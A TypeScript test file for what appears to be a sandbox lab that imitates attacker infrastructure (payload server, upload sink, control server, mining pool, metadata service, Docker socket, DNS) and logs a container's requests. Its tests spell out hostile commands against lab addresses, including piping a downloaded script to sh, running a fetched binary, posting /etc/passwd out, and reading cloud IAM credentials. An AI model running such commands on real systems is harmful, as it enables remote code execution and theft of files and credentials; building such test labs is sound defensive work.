// The peers as a container meets them, and what they remember of it.
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { defaultCacheDir } from '../cache.ts'
import { makeNode, type Node } from '../node.ts'
import { missingPrerequisites } from '../prerequisites.ts'
import { HELLO } from './hello-elf.ts'
import { type Lab, startLab } from './lab.ts'

const missing = [
  ...missingPrerequisites(),
  ...(process.env.YAGURA_DATA ? [] : ['YAGURA_DATA (root file systems for images)']),
]

test('this machine can run a lab', () => {
  if (missing.length > 0) console.error(`NOT TESTED: a lab needs ${missing.join(', ')}.`)
  expect(process.env.CI ? missing : []).toEqual([])
})

describe.skipIf(missing.length > 0)('the lab of a node', { timeout: 120_000 }, () => {
  let node: Node
  let lab: Lab
  const sh = async (script: string) => (await node.exec('visitor', ['sh', '-c', script])).stdout

  beforeAll(async () => {
    node = await makeNode({ name: `lab-${process.pid}` })
    lab = await startLab(node, defaultCacheDir())
    const image = await node.importImage('alpine:3.18')
    const mounts = [{ source: '/run/docker.sock', destination: '/run/docker.sock' }]
    await node.run({ image, name: 'visitor', command: ['sleep', '600'], network: 'bridge', mounts })
  }, 300_000)

  afterAll(async () => {
    await lab?.close()
    await node?.close()
  })

  test('gives a script and a program that runs', async () => {
    expect(await sh('wget -q -O- http://10.88.0.1:8000/payload.sh | sh')).toBe('pwned\n')
    expect(await sh('cd /tmp && wget -q http://10.88.0.1:8000/elf && chmod +x elf && ./elf')).toBe(HELLO)
  })

  test('remembers who asked for what', async () => {
    const [one] = lab.records(0).filter(({ path }) => path === '/elf')
    expect(one).toMatchObject({ peer: 'http', method: 'GET', to: '10.88.0.1', port: 8000 })
    expect(lab.records(0, one?.from).length).toBeGreaterThanOrEqual(2)
    expect(lab.records(Date.now() + 1000)).toEqual([])
  })

  test('takes uploads, and knows how much came', async () => {
    await sh('head -c 5000 /dev/zero | wget -q -O- --post-file=/etc/passwd http://10.90.0.2:8000/up')
    const upload = lab.records(0).find(({ path }) => path === '/up')
    expect(upload).toMatchObject({ method: 'POST', to: '10.90.0.2', text: expect.stringContaining('root:x:0') })
  })

  test('is a control server, a pool, a database, a metadata service and Docker', async () => {
    expect(await sh('(sleep 1; echo bye) | nc -w 3 10.88.0.1 4444')).toBe('id; exit\n')
    expect(await sh('(echo \'{"id":1,"method":"login"}\'; sleep 1) | nc -w 3 10.88.0.1 3333')).toContain(
      '"status":"OK"',
    )
    expect(await sh('(echo PING; sleep 1) | nc -w 3 10.88.0.1 6379')).toContain('+PONG')
    expect(await sh('wget -q -O- http://169.254.169.254/latest/meta-data/iam/security-credentials/')).toBe('lab-role')
    expect(await sh("printf 'GET /_ping HTTP/1.0\\r\\n\\r\\n' | nc local:/run/docker.sock")).toContain('OK')
  })

  test('resolves every name to a peer', async () => {
    expect(await sh('nslookup -type=a any.example 10.88.0.1')).toContain('10.88.0.9')
    expect(lab.records(0).some(({ peer, path }) => peer === 'dns' && path === 'any.example')).toBe(true)
  })

  test('asks for pages from inside of the node', async () => {
    expect(await lab.page('http://10.88.0.1:8000/x')).toEqual({ status: 200, body: 'ok\n' })
    expect(await lab.page('http://10.88.0.1:81/')).toMatchObject({ status: 0 })
  })
})
